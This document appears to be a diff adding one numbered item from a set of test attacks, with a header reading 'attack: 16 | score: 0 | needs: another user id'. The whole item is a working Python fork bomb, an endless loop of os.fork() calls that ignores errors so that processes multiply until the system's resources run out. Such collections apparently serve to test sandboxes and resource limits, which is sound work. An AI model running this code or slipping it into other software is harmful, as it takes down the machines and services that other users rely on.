@@ -1,0 +1,8 @@
+# attack: 16 | score: 0 | needs: another user id | fork without end
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        continue
